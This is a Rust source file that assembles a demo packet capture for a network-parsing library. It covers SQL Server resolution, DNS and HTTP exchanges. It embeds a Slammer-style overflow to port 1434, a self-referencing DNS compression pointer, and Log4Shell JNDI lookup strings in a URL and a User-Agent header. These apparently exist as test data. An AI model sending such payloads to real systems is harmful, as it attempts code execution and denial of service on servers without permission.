//! The bundled capture, made by hand: questions to SQL Server's resolution service, a name server
//! and a web server, one of each that a patch of the library has something to do with.

use wire::{Layers, checksum};

const CLIENT: [u8; 4] = [192, 0, 2, 1];
const SERVER: [u8; 4] = [198, 51, 100, 7];

/// A pcap file (microseconds, little-endian, Ethernet).
pub(crate) fn demo() -> Vec<u8> {
    let mut capture = Capture::new();
    let slammer = [&[4][..], &[b'A'; 400]].concat();
    capture.udp(true, 40_001, 1434, &slammer);
    capture.udp(true, 40_002, 1434, b"\x04MSSQLSERVER\0");
    let answer =
        b"ServerName;DB;InstanceName;MSSQLSERVER;IsClustered;No;Version;8.00.194;tcp;1433;;";
    let len = (answer.len() as u16).to_le_bytes();
    capture.udp(false, 40_002, 1434, &[&[5][..], &len, answer].concat());

    let question = |id: u8| {
        [&[0, id, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0][..], b"\x07example\x03com\0\0\x01\0\x01"].concat()
    };
    capture.udp(true, 40_003, 53, &question(7));
    let mut answer = question(7);
    answer[2..8].copy_from_slice(&[0x81, 0x80, 0, 1, 0, 1]);
    answer.extend(b"\xc0\x0c\0\x01\0\x01\0\0\x0e\x10\0\x04\xc6\x33\x64\x07");
    capture.udp(false, 40_003, 53, &answer);
    // A compression pointer into its own name.
    capture.udp(true, 40_004, 53, b"\0\x08\x01\0\0\x01\0\0\0\0\0\0\x01a\xc0\x0c\0\x01\0\x01");

    let mut web = Connection::new(40_005, 80);
    web.open(&mut capture);
    web.exchange(
        &mut capture,
        b"GET /index.html HTTP/1.1\r\nHost: www.example\r\nUser-Agent: curl/8\r\n\r\n",
    );
    web.exchange(
        &mut capture,
        b"GET /search?q=%24%7bjndi:ldap://x/a} HTTP/1.1\r\nHost: www.example\r\nUser-Agent: ${jndi:ldap://x/b}\r\n\r\n",
    );
    web.exchange(
        &mut capture,
        b"GET /logo.png HTTP/1.1\r\nHost: www.example\r\nUser-Agent: curl/8\r\n\r\n",
    );
    web.close(&mut capture);
    capture.file
}

struct Capture {
    file: Vec<u8>,
    packets: u32,
}

impl Capture {
    fn new() -> Self {
        let words: [u32; 6] = [0xa1b2_c3d4, 0x0004_0002, 0, 0, 65_535, 1];
        Self { file: words.iter().flat_map(|word| word.to_le_bytes()).collect(), packets: 0 }
    }

    fn udp(&mut self, request: bool, client: u16, server: u16, payload: &[u8]) {
        let mut l4 = ports(request, client, server);
        l4.extend((8 + payload.len() as u16).to_be_bytes());
        l4.extend([0xff, 0xff]);
        l4.extend(payload);
        self.packet(request, 17, &l4);
    }

    /// Ten milliseconds after the one before.
    fn packet(&mut self, request: bool, protocol: u8, l4: &[u8]) {
        let (from, to, macs) = if request {
            (CLIENT, SERVER, [2, 0, 0, 0, 0, 2, 2, 0, 0, 0, 0, 1])
        } else {
            (SERVER, CLIENT, [2, 0, 0, 0, 0, 1, 2, 0, 0, 0, 0, 2])
        };
        let mut frame = [&macs[..], &[0x08, 0x00, 0x45, 0x00]].concat();
        frame.extend((20 + l4.len() as u16).to_be_bytes());
        frame.extend((self.packets as u16 + 1).to_be_bytes());
        frame.extend([0x40, 0, 64, protocol, 0, 0]);
        frame.extend(from);
        frame.extend(to);
        frame.extend(l4);
        let layers = Layers::ethernet(&frame).unwrap();
        checksum::fill_ip(&mut frame, &layers);
        checksum::fill_transport(&mut frame, &layers);
        let len = frame.len() as u32;
        let head = [1_700_000_000, self.packets * 10_000, len, len];
        self.file.extend(head.iter().flat_map(|word| word.to_le_bytes()));
        self.file.extend(frame);
        self.packets += 1;
    }
}

fn ports(request: bool, client: u16, server: u16) -> Vec<u8> {
    let (from, to) = if request { (client, server) } else { (server, client) };
    [from.to_be_bytes(), to.to_be_bytes()].concat()
}

struct Connection {
    ports: (u16, u16),
    /// Sequence numbers: client's, server's.
    next: [u32; 2],
}

impl Connection {
    fn new(client: u16, server: u16) -> Self {
        Self { ports: (client, server), next: [1_000, 9_000] }
    }

    fn segment(
        &mut self,
        capture: &mut Capture,
        request: bool,
        flags: u8,
        options: &[u8],
        payload: &[u8],
    ) {
        let (mine, other) = if request { (0, 1) } else { (1, 0) };
        let mut l4 = ports(request, self.ports.0, self.ports.1);
        l4.extend(self.next[mine].to_be_bytes());
        l4.extend(if flags & 0x10 == 0 { [0; 4] } else { self.next[other].to_be_bytes() });
        l4.extend([((20 + options.len()) as u8 / 4) << 4, flags, 0xfa, 0xf0, 0, 0, 0, 0]);
        l4.extend(options);
        l4.extend(payload);
        capture.packet(request, 6, &l4);
        self.next[mine] += payload.len() as u32 + u32::from(flags & 3 != 0);
    }

    fn open(&mut self, capture: &mut Capture) {
        self.segment(capture, true, 0x02, &[2, 4, 5, 0xb4], b"");
        self.segment(capture, false, 0x12, &[2, 4, 5, 0xb4], b"");
        self.segment(capture, true, 0x10, b"", b"");
    }

    fn exchange(&mut self, capture: &mut Capture, request: &[u8]) {
        self.segment(capture, true, 0x18, b"", request);
        self.segment(
            capture,
            false,
            0x18,
            b"",
            b"HTTP/1.1 200 OK\r\nContent-Length: 3\r\n\r\nok\n",
        );
        self.segment(capture, true, 0x10, b"", b"");
    }

    fn close(&mut self, capture: &mut Capture) {
        self.segment(capture, true, 0x11, b"", b"");
        self.segment(capture, false, 0x11, b"", b"");
        self.segment(capture, true, 0x10, b"", b"");
    }
}
